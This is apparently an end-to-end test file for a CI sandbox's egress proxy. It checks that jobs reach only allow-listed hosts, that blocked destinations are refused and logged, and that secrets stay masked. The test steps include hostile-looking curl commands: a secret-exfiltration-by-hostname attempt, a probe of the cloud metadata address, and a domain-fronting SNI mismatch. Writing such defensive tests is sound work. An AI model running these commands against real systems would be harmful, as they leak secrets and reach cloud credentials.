// End to end, `airlock run` with real sandboxes: a job's curl and git reach a real server that is
// not on this host's loopback (a network namespace at a TEST-NET address, names from a real DNS
// server) only through the egress proxy and only where the allow-list says; names resolving to
// 127.0.0.1 and 169.254.169.254, an SNI mismatch and an unlisted host are refused, and every
// decision shows in the job's log. A run without an allow-list has no proxy and no network.
import assert from "node:assert/strict";
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";
import { makeRepo, runAirlock, type TempRepo } from "../helpers/repo.js";
import { canRunNetns, startInternet, type Internet } from "./internet.js";

const skip = canRunNetns ? false : "needs root and iproute2 (network namespaces)";
/**
 * The jobs' root filesystem: an unpacked job image (e.g. debian-12) when AIRLOCK_TEST_ROOTFS names
 * one, else the host's root (the local opt-in), which has curl and git on CI hosts.
 */
const rootfs = process.env.AIRLOCK_TEST_ROOTFS;
const platform = rootfs ? ["-P", `ubuntu-latest=${rootfs}`] : [];
let net: Internet;
const repos: TempRepo[] = [];

before(async () => {
  if (skip) return;
  net = await startInternet("203.0.113.0", {
    "www.test.example": ["SERVER"],
    "git.test.example": ["SERVER"],
    "front.test.example": ["SERVER"],
    "other.test.example": ["SERVER"],
    "loop.test.example": ["127.0.0.1"],
    "meta.test.example": ["169.254.169.254"],
  });
});
after(async () => {
  repos.forEach((r) => r.remove());
  await net?.stop();
});

function repo(steps: string): TempRepo {
  const r = makeRepo({
    "ca.pem": readFileSync(net.caFile, "utf8"),
    ".github/workflows/ci.yml": `on: push\njobs:\n  net:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`,
  });
  repos.push(r);
  return r;
}

const step = (name: string, script: string): string =>
  `      - name: ${name}\n        run: |\n${script
    .trim()
    .split("\n")
    .map((l) => `          ${l}`)
    .join("\n")}\n`;

void test("a job reaches allowed destinations through the proxy, and nothing else", { skip }, async () => {
  const r = repo(
    step(
      "proxy variables; the relay is outside the job's PID namespace",
      [
        'echo "proxy=$HTTPS_PROXY no=$NO_PROXY"',
        "echo \"relay-visible=$(for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done | grep -c 'airlock-rela[y]')\" || true",
      ].join("\n"),
    ) +
      step("http allowed", "curl -sS --fail http://www.test.example/") +
      step("https allowed", "curl -sS --fail --cacert ca.pem https://www.test.example/") +
      step(
        "git over http and https",
        [
          "git clone -q http://git.test.example/git/repo.git c1 && cat c1/hello.txt",
          "GIT_SSL_CAINFO=$PWD/ca.pem git clone -q https://git.test.example/git/repo.git c2",
          'echo "https-clone: $(cat c2/hello.txt)"',
        ].join("\n"),
      ) +
      step(
        "refused destinations",
        [
          "if curl -sS --fail --max-time 10 https://loop.test.example/; then echo LOOP-REACHED; fi",
          "if curl -sS --fail --max-time 10 http://meta.test.example/latest/meta-data/; then echo META-REACHED; fi",
          "if curl -sS --fail --max-time 10 --cacert ca.pem https://other.test.example:8443/; then echo OTHER-REACHED; fi",
          // CONNECT names an allowed host, the ClientHello another one.
          "if curl -sS --fail --max-time 10 -k --connect-to other.test.example:443:front.test.example:443 https://other.test.example/; then echo FRONT-REACHED; fi",
          `if curl -sS --fail --max-time 5 --noproxy '*' http://${net.serverIp}/; then echo DIRECT-REACHED; fi`,
          "echo refused-done",
        ].join("\n"),
      ),
  );
  const res = await runAirlock(
    r.dir,
    [
      "run",
      ...platform,
      "--egress-allow",
      "www.test.example:80",
      "--egress-allow",
      "www.test.example:443",
      "--egress-allow",
      "*.test.example:443",
      "--egress-allow",
      "git.test.example:80",
      "--egress-allow",
      "meta.test.example:80",
    ],
    { AIRLOCK_EGRESS_DNS: net.dns.address },
  );
  const out = res.stdout;
  assert.equal(res.code, 0, `${out}\n${res.stderr}`);
  assert.match(out, /proxy=http:\/\/127\.0\.0\.1:3128 no=localhost,127\.0\.0\.1/);
  assert.match(out, /\| relay-visible=0$/m);
  assert.match(out, /hello from www\.test\.example/);
  assert.match(out, /hello through the proxy/);
  assert.match(out, /https-clone: hello through the proxy/);
  assert.match(out, /\| refused-done$/m);
  assert.doesNotMatch(out, /\| (LOOP|META|OTHER|FRONT|DIRECT)-REACHED$/m);
  // The decisions, in the job's log.
  const ip = net.serverIp.replace(/\./g, "\\.");
  assert.match(out, new RegExp(`egress: allowed GET www\\.test\\.example:80 → ${ip}`));
  assert.match(out, new RegExp(`egress: allowed CONNECT www\\.test\\.example:443 → ${ip}`));
  assert.match(out, new RegExp(`egress: allowed CONNECT git\\.test\\.example:443 → ${ip}`));
  assert.match(
    out,
    /egress: refused CONNECT loop\.test\.example:443 \(resolves to a loopback address 127\.0\.0\.1\)/,
  );
  assert.match(
    out,
    /egress: refused GET meta\.test\.example:80 \(resolves to a link-local address \(cloud metadata\) 169\.254\.169\.254\)/,
  );
  assert.match(
    out,
    /egress: refused CONNECT front\.test\.example:443 \(TLS server name other\.test\.example does not match the CONNECT host\)/,
  );
  assert.match(out, /egress: refused CONNECT other\.test\.example:8443 \(not on the allow-list\)/);
});

void test("a run without an allow-list has no proxy and no network", { skip }, async () => {
  const r = repo(
    step(
      "nothing reachable",
      [
        'echo "proxy=[$HTTPS_PROXY$HTTP_PROXY$https_proxy$http_proxy]"',
        "if curl -sS --max-time 5 http://www.test.example/; then echo NAME-REACHED; fi",
        `if curl -sS --max-time 5 http://${net.serverIp}/; then echo IP-REACHED; fi`,
        "if curl -sS --max-time 5 -x http://127.0.0.1:3128 http://www.test.example/; then echo RELAY-REACHED; fi",
        "echo nothing-done",
      ].join("\n"),
    ),
  );
  const res = await runAirlock(r.dir, ["run", ...platform], { AIRLOCK_EGRESS_DNS: net.dns.address });
  assert.equal(res.code, 0, `${res.stdout}\n${res.stderr}`);
  assert.match(res.stdout, /proxy=\[\]/);
  assert.match(res.stdout, /\| nothing-done$/m);
  assert.doesNotMatch(res.stdout, /\| (NAME|IP|RELAY)-REACHED$/m);
  assert.doesNotMatch(res.stdout, /egress:/);
});

void test(
  "a bad allow-list entry stops the run before anything runs, naming every problem",
  { skip },
  async () => {
    const r = repo(step("never", "echo SHOULD-NOT-RUN"));
    const res = await runAirlock(r.dir, ["run", "--egress-allow", "127.0.0.1:80", "--egress-allow", "nope"]);
    assert.notEqual(res.code, 0);
    assert.match(res.stderr, /127\.0\.0\.1:80.*loopback/);
    assert.match(res.stderr, /"nope"/);
    assert.doesNotMatch(res.stdout, /SHOULD-NOT-RUN/);
  },
);

void test("a secret in a host name stays masked in the egress records", { skip }, async () => {
  const r = repo(
    step(
      "exfiltrate by name",
      'curl -sS --fail --max-time 10 "http://$TOKEN.test.example/" || echo "masked-done"',
    ).replace("run: |", "env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: |"),
  );
  const secrets = path.join(r.dir, "..", `${path.basename(r.dir)}.secrets`);
  writeFileSync(secrets, "TOKEN=s3cr3tvalue4242\n");
  try {
    const res = await runAirlock(
      r.dir,
      ["run", ...platform, "--secret-file", secrets, "--egress-allow", "www.test.example:80"],
      { AIRLOCK_EGRESS_DNS: net.dns.address },
    );
    assert.equal(res.code, 0, `${res.stdout}\n${res.stderr}`);
    assert.match(res.stdout, /egress: refused GET \*\*\*\.test\.example:80 \(not on the allow-list\)/);
    assert.doesNotMatch(res.stdout, /s3cr3tvalue4242/);
    assert.match(res.stdout, /\| masked-done$/m);
  } finally {
    rmSync(secrets, { force: true });
  }
});
